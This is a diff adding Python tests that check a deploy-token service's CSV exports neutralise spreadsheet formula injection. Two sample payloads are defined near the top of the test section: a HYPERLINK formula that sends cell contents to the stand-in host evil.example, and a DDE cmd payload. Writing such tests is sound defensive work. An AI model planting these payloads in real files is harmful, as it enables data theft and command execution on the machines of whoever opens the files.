@@ -6,9 +6,13 @@ import csv
 import hashlib
 import io
 import json
+import re
 from datetime import UTC, datetime
+from pathlib import Path
 
+from api.app import create_app
 from deploy_tokens.activity import ActivityEvent
+from deploy_tokens.cli import build_parser, cmd_export
 from deploy_tokens.exports import Export, ExportRequest
 from deploy_tokens.runtime import Runtime
 
@@ -141,3 +145,136 @@ def test_set_aside_activity_rows_are_exported_for_auditors(runtime: Runtime):
         assert "time only" in str(error)
     else:
         raise AssertionError("a token filter on set-aside rows must be refused")
+
+
+# CSV cells a spreadsheet could run (docs/auditing.md, "Export for compliance") -------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+DDE = "+cmd|' /C calc'!A0"
+
+
+def _recovered(cell: str) -> str:
+    """The documented way back to the stored value: one or more quotes before a trigger lose the first."""
+    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell
+
+
+def _csv_rows(content: bytes) -> list[dict[str, str]]:
+    # newline="": a cell may hold a carriage return, which the csv module must see as it was written
+    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+
+
+def _names_in_lifecycle_csv(runtime: Runtime, names: list[str]) -> dict[str, str]:
+    """Each token name as its ``deploy_token_created`` row's ``target_name`` cell, by the name it was given."""
+    world = World(runtime)
+    ids = {
+        runtime.service.create_token(
+            world.admin, "project", world.project, name=name, scopes=["read_repository"]
+        ).token.token_id: name
+        for name in names
+    }
+    content, _ = _run(runtime, ExportRequest("lifecycle", "csv"))
+    return {
+        ids[int(row["target_id"])]: row["target_name"]
+        for row in _csv_rows(content)
+        if row["event_type"] == "deploy_token_created"
+    }
+
+
+def test_formulas_in_a_token_name_are_not_live_in_the_lifecycle_csv(runtime: Runtime):
+    cells = _names_in_lifecycle_csv(runtime, [HYPERLINK, DDE])
+    assert cells == {HYPERLINK: "'" + HYPERLINK, DDE: "'" + DDE}
+
+
+def test_only_a_cell_beginning_with_a_formula_trigger_changes(runtime: Runtime):
+    # Tab and carriage return cannot reach a token name (the domain refuses control characters): see
+    # tests/unit/test_csv_cells.py for them.
+    names = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "a=1+1", "x" + HYPERLINK, " " + DDE]
+    cells = _names_in_lifecycle_csv(runtime, names)
+    assert cells == {
+        "=1+1": "'=1+1",
+        "+1+1": "'+1+1",
+        "-1+1": "'-1+1",
+        "@SUM(A1)": "'@SUM(A1)",
+        "a=1+1": "a=1+1",
+        "x" + HYPERLINK: "x" + HYPERLINK,
+        " " + DDE: " " + DDE,
+    }
+
+
+def test_the_documented_recovery_gives_back_every_name(runtime: Runtime):
+    names = ["=1+1", "'=1+1", "''@x", "'quoted", "it's", "'"]
+    cells = _names_in_lifecycle_csv(runtime, names)
+    assert {name: _recovered(cell) for name, cell in cells.items()} == {name: name for name in names}
+
+
+def test_numbers_booleans_and_timestamps_are_written_as_they_are(runtime: Runtime):
+    runtime.activity.record(
+        ActivityEvent(
+            occurred_at=datetime(2026, 1, 10, 12, 0, tzinfo=UTC),
+            token_id=7,
+            token_ref=None,
+            endpoint="auth_request",
+            action="git_read",
+            resource_kind="project",
+            resource_ref="acme/api",
+            allowed=False,
+            reason="revoked",
+            status=-1,  # a negative number is data, not a formula
+            client_addr="192.0.2.9",
+            user_agent="-1+1",
+        )
+    )
+    runtime.activity.flush()
+    content, _ = _run(runtime, ExportRequest("usage", "csv"))
+    [row] = _csv_rows(content)
+    assert (row["id"], row["token_id"], row["status"], row["allowed"]) == ("1", "7", "-1", "false")
+    assert row["occurred_at"] == "2026-01-10T12:00:00.000000+00:00"
+    assert row["user_agent"] == "'-1+1"
+
+
+def test_jsonl_holds_the_value_the_csv_neutralises(runtime: Runtime):
+    world = World(runtime)
+    token_id = runtime.service.create_token(
+        world.admin, "project", world.project, name=HYPERLINK, scopes=["read_repository"]
+    ).token.token_id
+    as_csv, _ = _run(runtime, ExportRequest("lifecycle", "csv", token_id=token_id))
+    as_jsonl, _ = _run(runtime, ExportRequest("lifecycle", "jsonl", token_id=token_id))
+    csv_names = [row["target_name"] for row in _csv_rows(as_csv)]
+    jsonl_names = [json.loads(line)["target_name"] for line in as_jsonl.decode().splitlines()]
+    assert jsonl_names == [HYPERLINK, HYPERLINK]
+    assert csv_names == ["'" + HYPERLINK, "'" + HYPERLINK]
+
+
+def test_the_cli_manifest_covers_the_csv_bytes_as_written(runtime: Runtime, tmp_path: Path):
+    world = World(runtime)
+    runtime.service.create_token(world.admin, "project", world.project, name=DDE, scopes=["read_repository"])
+    output = tmp_path / "lifecycle.csv"
+    args = build_parser().parse_args(
+        ["export", "--dataset", "lifecycle", "--format", "csv", "--output", str(output)]
+    )
+    assert cmd_export(runtime, args) == 0
+    written = output.read_bytes()
+    manifest = json.loads((tmp_path / "lifecycle.csv.manifest.json").read_text())
+    assert manifest["sha256"] == hashlib.sha256(written).hexdigest()
+    assert manifest["bytes"] == len(written)
+    assert ("'" + DDE) in {row["target_name"] for row in _csv_rows(written)}
+
+
+def test_the_audit_api_csv_export_is_neutralised(runtime: Runtime):
+    world = World(runtime)
+    runtime.service.create_token(
+        world.admin, "project", world.project, name=HYPERLINK, scopes=["read_repository"]
+    )
+    client = create_app(runtime).test_client()
+    admin = {"PRIVATE-TOKEN": world.admin_token}
+    response = client.get("/api/v4/audit/exports/lifecycle.csv", headers=admin)
+    assert response.status_code == 200
+    body = response.get_data()
+    names = {row["target_name"] for row in _csv_rows(body) if row["target_type"] == "DeployToken"}
+    assert names == {"'" + HYPERLINK}
+    manifest = client.get(
+        "/api/v4/audit/exports/lifecycle.csv/manifest",
+        query_string={"upto": response.headers["X-Export-Upto"]},
+        headers=admin,
+    ).get_json()
+    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
